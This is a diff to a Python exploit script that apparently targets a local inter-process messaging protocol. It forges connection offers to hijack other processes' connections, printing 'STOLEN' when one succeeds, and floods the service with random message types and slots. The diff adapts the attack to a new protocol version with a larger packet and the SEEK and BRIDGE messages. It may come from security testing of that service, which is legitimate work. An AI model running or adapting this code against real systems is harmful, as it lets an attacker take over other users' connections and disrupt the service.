@@ -9,8 +9,8 @@ victim, seconds, port = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
 random.seed(7)
 done = collections.Counter()
 squatted = set()  # names of hers that are ours
-MAGIC, VERSION = 0x584c4354, 1
-HELLO, OFFER, JOIN, REFUSE, SEALED = 1, 2, 3, 4, 5
+MAGIC, VERSION, PACKET = 0x584c4354, 2, 128
+HELLO, OFFER, JOIN, REFUSE, SEALED, SEEK, BRIDGE = range(1, 8)
 F_ADD_SEALS, SHRINK, GROW = 1033, 2, 4
 CAPACITY = 65536
 
@@ -25,7 +25,7 @@ def tuple_of(local, peer):
 
 def message(kind, tuple_=b'\0' * 36, agent=0, cookie=0, sender=(0, 0), receiver=(0, 0)):
     return struct.pack('=IIIIQQiIIIII', MAGIC, VERSION, kind, 0, agent, cookie, os.getpid(),
-                       *sender, *receiver, 0) + tuple_ + b'\0' * 4
+                       *sender, *receiver, 0) + tuple_ + b'\0' * 36
 
 
 def memory(size, seals=SHRINK | GROW, header=True):
@@ -95,7 +95,7 @@ def introduce(s, cookie):
     if not send(s, message(HELLO, agent=random.getrandbits(63) | 1, cookie=cookie), hello_descriptors()):
         return False
     for data, fds in answers(s, 0.1):
-        if len(data) == 96 and struct.unpack_from('=I', data, 8)[0] == HELLO and len(fds) == 2:
+        if len(data) == PACKET and struct.unpack_from('=I', data, 8)[0] == HELLO and len(fds) == 2:
             bell = fds[0]
             fcntl.fcntl(bell, fcntl.F_SETFL, 0)
             with socket.socket(fileno=os.dup(bell)) as ring:
@@ -157,7 +157,7 @@ def forge(s, own, sound=False):
         send(s, message(OFFER, tuple_of(mine, peer), sender=(random.randrange(64), 1)), [fd])
         done['offers of our own connection' if is_own else 'offers of others\' connections'] += 1
         for data, fds in answers(s, 0.3 if sound and is_own else 0.005):
-            kind = struct.unpack_from('=I', data, 8)[0] if len(data) == 96 else 0
+            kind = struct.unpack_from('=I', data, 8)[0] if len(data) == PACKET else 0
             if kind == JOIN:
                 if not is_own:
                     print('STOLEN', mine, peer, flush=True)
@@ -172,7 +172,7 @@ def forge(s, own, sound=False):
                     pass
             close_all(fds)
         os.close(kept)
-    for kind in (JOIN, REFUSE, SEALED, 6, 0):
+    for kind in (JOIN, REFUSE, SEALED, SEEK, BRIDGE, 8, 0):
         for _ in range(10):
             slot = random.choice([0, 1, 2, 3, random.getrandbits(32)])
             if not send(s, message(kind, sender=(1, 1), receiver=(slot, random.randrange(8)))):
